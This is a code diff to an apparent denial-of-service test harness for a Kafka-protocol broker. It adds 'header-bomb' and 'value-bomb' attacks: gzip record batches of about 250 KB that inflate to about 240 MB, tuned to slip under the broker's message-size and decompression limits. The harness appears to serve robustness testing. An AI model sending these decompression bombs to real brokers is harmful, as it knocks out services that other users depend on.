@@ -24,11 +24,18 @@ Attacks:
   roll-storm     2 connections producing 64 KiB batches (acks=1) to a topic created with the
                  smallest segment.bytes the broker accepts (1024, else Kafka 4's 1 MiB): every
                  roll syncs the finished segment on the partitions actor
+  header-bomb    Produce of one ~250 KB gzip batch (under message.max.bytes) holding 1 record
+                 with ~120 million empty headers (`00 01`: empty key, null value), 240 MB
+                 decompressed, just under the 256 MiB decompression budget, 2 connections
+  value-bomb     the same with one record whose value is 250 MB of zeros (~240 KB gzip): the
+                 most inflating the decompression budget allows, few fields, 2 connections
   parked-dup     40 parked Fetches (min_bytes 2^31-1, 30 s wait), each listing the bystander's
                  partition 20,000 times: every bystander append re-read them
 """
 
 import argparse
+import gzip
+import io
 import multiprocessing
 import os
 import shutil
@@ -87,6 +94,41 @@ def fetch_body(topic, listings, offset=0, max_bytes=0x7FFFFFFF, partition_max=0x
 def produce_body(topic, batch, listings, acks=-1):
     one = struct.pack(">ii", 0, len(batch)) + batch
     return S(None) + struct.pack(">hii", acks, 30000, 1) + S(topic) + struct.pack(">i", listings) + one * listings
+
+
+def header_bomb_batch(headers=120_000_000, value_bytes=None):
+    """A gzip v2 batch of one record carrying `headers` empty headers (`00 01` each): 2 bytes of
+    walk per header, ~1000:1 under deflate, so 240 MB of walk arrive in a ~250 KB request.
+    With `value_bytes`, the record has no headers and a value of that many zero bytes instead
+    (as many bytes to inflate, few fields to walk)."""
+    z = kwire._zigzag_varint
+    if value_bytes is not None:
+        body = b"\x00" + z(0) + z(0) + z(-1) + z(value_bytes)
+        record_len = len(body) + value_bytes + 1
+        return gzip_batch(z(record_len) + body, (b"\x00", value_bytes), z(0))
+    body = b"\x00" + z(0) + z(0) + z(-1) + z(-1) + z(headers)  # attributes .. header count
+    return gzip_batch(z(len(body) + 2 * headers) + body, (b"\x00\x01", headers), b"")
+
+
+def gzip_batch(head, repeated, tail):
+    """A one-record gzip v2 batch whose records section is `head`, then `repeated` = (unit, n)
+    written n times, then `tail`."""
+    unit, n = repeated
+    out = io.BytesIO()  # streamed: the 240 MB section is never held whole
+    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9, mtime=0) as g:
+        g.write(head)
+        chunk = unit * (1 << 20)
+        left = n
+        while left:
+            step = min(left, 1 << 20)
+            g.write(chunk if step == 1 << 20 else chunk[: len(unit) * step])
+            left -= step
+        g.write(tail)
+    section = out.getvalue()
+    ts = int(time.time() * 1000)
+    after_crc = struct.pack(">hiqqqhii", 1, 0, ts, ts, -1, -1, -1, 1) + section
+    after_length = struct.pack(">ibI", -1, 2, kwire.crc32c(after_crc)) + after_crc
+    return struct.pack(">qi", 0, len(after_length)) + after_length
 
 
 def metadata_body(topic, listings):
@@ -259,6 +301,11 @@ def run(binary, attack, seconds, rate=0):
             args = (produce_body("victim", small, 199_999), kwire.API_KEYS["Produce"], 3)
         elif attack == "metadata-cap":
             args = (metadata_body("victim", 200_000), kwire.API_KEYS["Metadata"], 1)
+        elif attack == "header-bomb":
+            args = (produce_body("victim", header_bomb_batch(), 1), kwire.API_KEYS["Produce"], 3)
+        elif attack == "value-bomb":
+            batch = header_bomb_batch(value_bytes=250_000_000)
+            args = (produce_body("victim", batch, 1), kwire.API_KEYS["Produce"], 3)
         elif attack == "roll-storm":
             batch = kwire.record_batch([(None, b"r" * 65_000)])
             args = (produce_body("victim", batch, 1, acks=1), kwire.API_KEYS["Produce"], 3)
